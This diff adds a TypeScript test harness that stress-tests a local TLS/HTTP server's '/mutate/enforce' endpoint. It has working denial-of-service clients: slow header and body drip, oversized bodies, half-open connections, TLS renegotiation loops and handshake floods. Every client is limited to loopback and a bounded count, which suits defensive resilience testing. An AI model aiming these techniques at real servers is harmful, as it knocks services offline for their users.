@@ -1,0 +1,133 @@
+// Clients that want to keep others from being served, each on loopback and bounded in number.
+import { connect as connectTcp, type Socket } from "node:net";
+import { connect as connectTls, type TLSSocket } from "node:tls";
+
+export interface Victim {
+  readonly port: number;
+  readonly ca: string;
+}
+
+export interface Attack {
+  /** Resolves when all of it has stopped; says what it met, in words. */
+  stop(): Promise<string>;
+}
+
+export const ATTACKS = [
+  "header drip",
+  "body drip",
+  "large bodies",
+  "half-open",
+  "renegotiation",
+  "handshake flood",
+] as const;
+export type AttackName = (typeof ATTACKS)[number];
+
+const DRIP_MS = 200;
+const HEADERS = "POST /mutate/enforce HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n";
+
+/** How many at once are enough: the attackers share the machine with the server, and must not burn it themselves. */
+const MOST_CLIENTS: Partial<Record<AttackName, number>> = {
+  "large bodies": 40,
+  renegotiation: 8,
+  "handshake flood": 8,
+};
+
+export function clientsOf(name: AttackName, wanted: number): number {
+  return Math.min(wanted, MOST_CLIENTS[name] ?? wanted);
+}
+
+/** Begins it with so many clients at once; each that is cut off comes again. */
+export function startAttack(name: AttackName, clients: number, victim: Victim): Attack {
+  const over = new AbortController();
+  const met = new Map<string, number>();
+  const count = (what: string): void => void met.set(what, (met.get(what) ?? 0) + 1);
+  const attack = attackOf(name);
+  const running = Array.from({ length: clients }, async () => {
+    while (!over.signal.aborted) await attack(victim, over.signal, count);
+  });
+  return {
+    async stop() {
+      over.abort();
+      await Promise.all(running);
+      return [...met].map(([what, times]) => `${what} ${times}`).join(", ");
+    },
+  };
+}
+
+type OneClient = (victim: Victim, over: AbortSignal, count: (what: string) => void) => Promise<void>;
+
+function attackOf(name: AttackName): OneClient {
+  switch (name) {
+    case "header drip":
+      return async (victim, over, count) => await drip(victim, over, count, "POST /mutate/enforce HTTP/1.1\r\nx: ");
+    case "body drip":
+      return async (victim, over, count) => await drip(victim, over, count, `${HEADERS}content-length: 6000\r\n\r\n{`);
+    case "large bodies":
+      // All but the last byte of the largest body that is taken.
+      return async (victim, over, count) =>
+        await drip(victim, over, count, `${HEADERS}content-length: 7340032\r\n\r\n${" ".repeat(7_330_000)}`);
+    case "half-open":
+      return async ({ port }, over, count) => {
+        await life(connectTcp({ port, host: "127.0.0.1" }), over, count);
+      };
+    case "renegotiation":
+      return renegotiate;
+    case "handshake flood":
+      return async (victim, over, count) => {
+        const socket = dial(victim);
+        socket.once("secureConnect", () => {
+          count("handshakes");
+          socket.destroy();
+        });
+        await life(socket, over, () => {});
+      };
+    default:
+      return name satisfies never;
+  }
+}
+
+function dial({ port, ca }: Victim, maxVersion: "TLSv1.2" | "TLSv1.3" = "TLSv1.3"): TLSSocket {
+  return connectTls({ port, host: "127.0.0.1", servername: "localhost", ca, maxVersion });
+}
+
+/** Sends the beginning at once, and a byte now and then. */
+async function drip(victim: Victim, over: AbortSignal, count: (what: string) => void, begin: string): Promise<void> {
+  const socket = dial(victim);
+  let timer: NodeJS.Timeout | undefined;
+  socket.once("secureConnect", () => {
+    socket.write(begin);
+    timer = setInterval(() => socket.writable && socket.write("x"), DRIP_MS);
+  });
+  socket.on("data", (data: Buffer) => count(`answered ${data.toString("latin1", 9, 12)}`));
+  await life(socket, over, count);
+  clearInterval(timer);
+}
+
+async function renegotiate(victim: Victim, over: AbortSignal, count: (what: string) => void): Promise<void> {
+  const socket = dial(victim, "TLSv1.2");
+  const again = (): void => {
+    if (socket.destroyed) return;
+    const isSent = socket.renegotiate({}, (error) => {
+      if (error === null) count("renegotiated");
+      if (error === null) again();
+      else socket.destroy();
+    });
+    if (!isSent) socket.destroy();
+  };
+  socket.once("error", ({ code }: NodeJS.ErrnoException) => count(code ?? "error"));
+  socket.once("secureConnect", again);
+  await life(socket, over, () => {});
+}
+
+/** Until it is closed, or all is over. */
+async function life(socket: Socket, over: AbortSignal, count: (what: string) => void): Promise<void> {
+  socket.on("error", () => {});
+  const end = (): void => void socket.destroy();
+  over.addEventListener("abort", end);
+  if (over.aborted) end();
+  await new Promise<void>((resolve) => {
+    socket.once("close", () => resolve());
+  });
+  over.removeEventListener("abort", end);
+  if (!over.aborted) count("cut off");
+}
